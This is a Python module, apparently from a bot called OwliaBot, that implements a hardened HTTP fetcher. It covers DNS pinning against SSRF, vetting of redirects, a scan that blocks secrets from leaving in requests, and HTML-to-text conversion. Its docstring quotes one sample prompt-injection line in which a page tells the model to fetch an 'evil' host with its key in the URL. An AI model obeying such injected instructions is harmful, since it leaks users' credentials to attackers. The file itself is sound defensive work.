"""SafeFetcher: the only way bot code talks HTTP to the outside world.

The SSRF rules in ssrf.py are only as good as the connection that follows them, so:
* DNS goes through our resolver, which checks every address and hands aiohttp exactly those
  addresses: the IP we vetted is the IP we connect to (no DNS-rebinding window), while TLS still
  verifies the certificate against the host name.
* No DNS cache and no connection reuse, so every hop (redirects included) is resolved and vetted.
* Redirects are followed here, each hop re-checked; no env proxies, no cookies.
* Nothing that looks like a secret leaves in a URL or body: a prompt-injected page asking the
  model to "fetch https://evil/?k=<your key>" is refused before any connection.
"""

from __future__ import annotations

import asyncio
import ipaddress
import re
import socket
from collections.abc import Awaitable, Callable, Collection, Mapping
from dataclasses import dataclass
from html.parser import HTMLParser
from typing import Any
from urllib.parse import unquote_plus

import aiohttp
from aiohttp.abc import AbstractResolver, ResolveResult
from yarl import URL

from bot.net.ssrf import (
    FetchBlocked,
    FetchError,
    FetchPolicy,
    ParsedTarget,
    blocked_host_reason,
    blocked_ip_reason,
    check_url,
)
from bot.security.redact import find_secrets, redact

__all__ = ["SafeFetcher", "FetchResult", "FetchError", "FetchBlocked", "html_to_text"]

Resolve = Callable[[str, int], Awaitable[list[str]]]

USER_AGENT = "OwliaBot/0.1 (web_fetch)"
_ACCEPT = "text/html,application/xhtml+xml,application/json,application/xml;q=0.9,text/plain;q=0.8,*/*;q=0.1"
_METHODS = frozenset(("GET", "HEAD", "POST"))
_REDIRECTS = frozenset((301, 302, 303, 307, 308))
_HEADER_NAME = re.compile(r"[!#$%&'*+.^_`|~0-9A-Za-z-]+")
_FORBIDDEN_HEADERS = frozenset(
    (
        "host",
        "content-length",
        "transfer-encoding",
        "connection",
        "upgrade",
        "te",
        "trailer",
        "proxy-authorization",
        "proxy-connection",
        "expect",
    )
)
_CHUNK = 64 * 1024


@dataclass(frozen=True)
class FetchResult:
    url: str
    final_url: str
    status: int
    content_type: str
    text: str
    truncated: bool
    bytes_read: int


async def system_resolve(host: str, port: int) -> list[str]:
    """Every address the OS resolver returns for host (IPv6 scope ids kept, so they are refused)."""
    infos = await asyncio.get_running_loop().getaddrinfo(host, port, type=socket.SOCK_STREAM)
    return list(dict.fromkeys(str(info[4][0]) for info in infos))


class PinnedResolver(AbstractResolver):
    """aiohttp resolver that refuses the whole name if ANY address is blocked, and returns exactly
    the addresses it checked (as numeric hosts, so nothing downstream resolves again)."""

    def __init__(self, policy: FetchPolicy, resolve: Resolve) -> None:
        self._policy = policy
        self._resolve = resolve

    async def resolve(
        self, host: str, port: int = 0, family: socket.AddressFamily = socket.AF_INET
    ) -> list[ResolveResult]:
        name = host.rstrip(".").lower()
        reason = blocked_host_reason(name)
        if reason:
            raise FetchBlocked(f"{name}: {reason}")
        try:
            addresses = await self._resolve(host, port)
        except OSError as exc:
            raise FetchError(f"{name}: name could not be resolved") from exc
        if not addresses:
            raise FetchError(f"{name}: name could not be resolved")
        results: list[ResolveResult] = []
        for address in addresses:
            try:
                ip = ipaddress.ip_address(address)
            except ValueError:
                raise FetchBlocked(f"{name}: resolver returned an invalid address") from None
            reason = blocked_ip_reason(ip, self._policy)
            if reason:
                raise FetchBlocked(f"{name}: resolves to a {reason} ({ip})")
            ip_family = socket.AF_INET if ip.version == 4 else socket.AF_INET6
            if family in (socket.AF_UNSPEC, ip_family):
                results.append(
                    ResolveResult(
                        hostname=host,
                        host=str(ip),
                        port=port,
                        family=ip_family,
                        proto=0,
                        flags=socket.AI_NUMERICHOST,
                    )
                )
        if not results:
            raise FetchError(f"{name}: no usable address")
        return results

    async def close(self) -> None:
        return None


def _refuse_secrets(target: ParsedTarget, body: bytes | None, allow: Collection[str]) -> None:
    """Refuse before connecting if the host, path, query or body carries a secret (kind only)."""
    public = {a.strip().lower().removeprefix("0x") for a in allow}
    raw = f"{target.url.raw_host or ''}{target.url.raw_path_qs}"
    places = [("URL", raw), ("URL", unquote_plus(raw))]
    if body:
        text = body.decode("utf-8", errors="replace")
        places += [("request body", text), ("request body", unquote_plus(text))]
    for where, text in places:
        for finding in find_secrets(text):
            if text[finding.start : finding.end].lower().removeprefix("0x") not in public:
                raise FetchBlocked(
                    f"{target.host}: refusing to send what looks like a {finding.kind} in the {where}"
                )


def _clean_headers(headers: Mapping[str, str] | None) -> dict[str, str]:
    out: dict[str, str] = {}
    for name, value in (headers or {}).items():
        if not _HEADER_NAME.fullmatch(name) or name.lower() in _FORBIDDEN_HEADERS:
            raise FetchBlocked(f"header {name[:40]!r} may not be set")
        if any(c in value for c in "\r\n\x00"):
            raise FetchBlocked(f"header {name!r} has a control character in its value")
        out[name] = value
    return out


def _is_textual(ctype: str) -> bool:
    if ctype.startswith("text/"):
        return True
    return ctype in ("application/json", "application/xml") or ctype.endswith(("+json", "+xml"))


def _printable(value: str, limit: int = 60) -> str:
    return "".join(c if c.isprintable() else "?" for c in value[:limit])


def _origin(target: ParsedTarget) -> tuple[str, str, int]:
    return target.scheme, target.host, target.port


class SafeFetcher:
    """Fetch under a FetchPolicy. One aiohttp session per fetcher; use `async with` or close()."""

    def __init__(self, policy: FetchPolicy, *, resolve: Resolve | None = None) -> None:
        self.policy = policy
        self._resolve = resolve or system_resolve
        self._session: aiohttp.ClientSession | None = None

    async def __aenter__(self) -> SafeFetcher:
        return self

    async def __aexit__(self, *exc: object) -> None:
        await self.close()

    async def close(self) -> None:
        if self._session is not None:
            await self._session.close()
            self._session = None

    def _client(self) -> aiohttp.ClientSession:
        if self._session is None or self._session.closed:
            connector = aiohttp.TCPConnector(
                resolver=PinnedResolver(self.policy, self._resolve),
                use_dns_cache=False,
                force_close=True,
                limit=16,
            )
            self._session = aiohttp.ClientSession(
                connector=connector,
                trust_env=False,
                cookie_jar=aiohttp.DummyCookieJar(),
                timeout=aiohttp.ClientTimeout(total=self.policy.timeout + 1),
                headers={"User-Agent": USER_AGENT, "Accept": _ACCEPT},
            )
        return self._session

    async def fetch(
        self,
        url: str,
        *,
        method: str = "GET",
        body: bytes | None = None,
        headers: Mapping[str, str] | None = None,
        allow: Collection[str] = (),
    ) -> FetchResult:
        """Fetch `url`, following up to policy.max_redirects vetted redirects within policy.timeout.

        `allow`: values known to be public (e.g. a tx hash being looked up) that the outbound
        secret scan must not mistake for a private key. Raises FetchBlocked / FetchError.
        """
        try:
            return await self._fetch(url, method, body, headers, allow)
        except FetchError as exc:
            # Messages name hosts, and a host (or a server's Location) is text from elsewhere.
            message = str(exc)
            safe = redact(message)
            if safe == message:
                raise
            raise type(exc)(safe) from None

    async def _fetch(
        self,
        url: str,
        method: str,
        body: bytes | None,
        headers: Mapping[str, str] | None,
        allow: Collection[str],
    ) -> FetchResult:
        method = method.upper()
        if method not in _METHODS:
            raise FetchBlocked(f"method {_printable(method, 10)!r} is not allowed")
        if body is not None and method != "POST":
            raise FetchBlocked(f"a request body is only allowed with POST, not {method}")
        target = check_url(url, self.policy)
        _refuse_secrets(target, body, allow)
        extra = _clean_headers(headers)
        hop = [target]  # the hop in flight, for the timeout message
        try:
            async with asyncio.timeout(self.policy.timeout):
                return await self._follow(url, hop, method, body, extra)
        except TimeoutError:
            raise FetchError(f"{hop[-1].host}: timed out after {self.policy.timeout:g}s") from None

    async def _follow(
        self, url: str, hop: list[ParsedTarget], method: str, body: bytes | None, headers: dict[str, str]
    ) -> FetchResult:
        redirects = 0
        while True:
            current = hop[-1]
            response = await self._send(current, method, body, headers)
            try:
                location = response.headers.get("Location")
                if response.status not in _REDIRECTS or not location:
                    return await self._read(url, current, method, response)
            finally:
                response.release()
            if redirects >= self.policy.max_redirects:
                limit = self.policy.max_redirects
                raise FetchError(f"{current.host}: too many redirects (more than {limit})")
            redirects += 1
            try:
                next_url = current.url.join(URL(location))
            except (ValueError, TypeError):
                raise FetchBlocked(f"{current.host}: invalid redirect location") from None
            try:
                nxt = check_url(next_url, self.policy)
            except FetchBlocked as exc:
                raise FetchBlocked(f"redirect from {current.host} refused: {exc}") from None
            if response.status == 303 or (response.status in (301, 302) and method == "POST"):
                method, body = ("HEAD" if method == "HEAD" else "GET"), None
            if _origin(nxt) != _origin(current):
                if body is not None:
                    raise FetchBlocked(
                        f"redirect from {current.host} would resend the request body to {nxt.host}"
                    )
                headers = {}  # the caller's headers (maybe an API key) were meant for the first origin
            hop.append(nxt)

    async def _send(
        self, target: ParsedTarget, method: str, body: bytes | None, headers: dict[str, str]
    ) -> aiohttp.ClientResponse:
        try:
            return await self._client().request(
                method, target.url, data=body, headers=headers, allow_redirects=False
            )
        except FetchError:
            raise
        except aiohttp.ClientConnectorCertificateError:
            raise FetchError(f"{target.host}: TLS certificate verification failed") from None
        except aiohttp.ClientSSLError:
            raise FetchError(f"{target.host}: TLS handshake failed") from None
        except aiohttp.ClientConnectorError:
            raise FetchError(f"{target.host}: connection failed") from None
        except (aiohttp.ClientError, OSError, ValueError) as exc:
            raise FetchError(f"{target.host}: request failed ({type(exc).__name__})") from None

    async def _read(
        self, url: str, target: ParsedTarget, method: str, response: aiohttp.ClientResponse
    ) -> FetchResult:
        ctype = response.content_type.lower()
        empty = method == "HEAD" or response.status in (204, 304) or response.content_length == 0
        if not empty and not _is_textual(ctype):
            raise FetchBlocked(f"{target.host}: content type {_printable(ctype)!r} is not text, JSON or XML")
        data, truncated = b"", False
        if not empty:
            data, truncated = await self._read_capped(target, response)
        try:  # the server names the charset; an unknown or non-text codec ("base64") falls back
            text = data.decode(response.charset or "utf-8", errors="replace")
        except LookupError:
            text = data.decode("utf-8", errors="replace")
        if ctype in ("text/html", "application/xhtml+xml"):
            text = html_to_text(text)
        return FetchResult(url, str(target.url), response.status, ctype, text, truncated, len(data))

    async def _read_capped(
        self, target: ParsedTarget, response: aiohttp.ClientResponse
    ) -> tuple[bytes, bool]:
        """Read at most max_bytes; one byte more tells us the body was cut."""
        limit = self.policy.max_bytes
        chunks: list[bytes] = []
        total = 0
        try:
            while total <= limit:
                chunk = await response.content.read(min(_CHUNK, limit + 1 - total))
                if not chunk:
                    break
                chunks.append(chunk)
                total += len(chunk)
        except (aiohttp.ClientError, OSError) as exc:
            raise FetchError(f"{target.host}: reading the response failed ({type(exc).__name__})") from None
        data = b"".join(chunks)
        return data[:limit], total > limit


# --- HTML to readable text -------------------------------------------------------------------

_SKIP_TAGS = frozenset(("script", "style", "noscript", "template", "svg"))
_LINE_TAGS = frozenset(("br", "li", "tr", "dt", "dd", "option"))
_BLOCK_TAGS = frozenset(
    (
        "p",
        "div",
        "section",
        "article",
        "header",
        "footer",
        "nav",
        "aside",
        "main",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "ul",
        "ol",
        "dl",
        "table",
        "thead",
        "tbody",
        "blockquote",
        "pre",
        "hr",
        "title",
        "figure",
        "figcaption",
        "form",
        "fieldset",
        "address",
        "details",
        "summary",
        "body",
        "html",
        "head",
    )
)


class _TextExtractor(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self._skip = 0
        self._words: list[str] = []
        self._lines: list[str] = []
        self.paragraphs: list[str] = []

    def _end_line(self) -> None:
        line = " ".join("".join(self._words).split())
        self._words = []
        if line:
            self._lines.append(line)

    def end_paragraph(self) -> None:
        self._end_line()
        if self._lines:
            self.paragraphs.append("\n".join(self._lines))
            self._lines = []

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        if tag in _SKIP_TAGS:
            self._skip += 1
        elif not self._skip:
            self._boundary(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in _SKIP_TAGS:
            self._skip = max(0, self._skip - 1)
        elif not self._skip:
            self._boundary(tag)

    def handle_startendtag(self, tag: str, attrs: Any) -> None:
        if tag not in _SKIP_TAGS and not self._skip:
            self._boundary(tag)

    def _boundary(self, tag: str) -> None:
        if tag in _BLOCK_TAGS:
            self.end_paragraph()
        elif tag in _LINE_TAGS:
            self._end_line()

    def handle_data(self, data: str) -> None:
        if not self._skip:
            self._words.append(data)


def html_to_text(html: str) -> str:
    """Readable text of an HTML page: no scripts or styles, link text kept, whitespace collapsed,
    one blank line between blocks."""
    parser = _TextExtractor()
    try:
        parser.feed(html)
        parser.close()
    except Exception:  # html.parser is lenient; if it still gives up, keep what it extracted
        pass
    parser.end_paragraph()
    return "\n\n".join(parser.paragraphs)
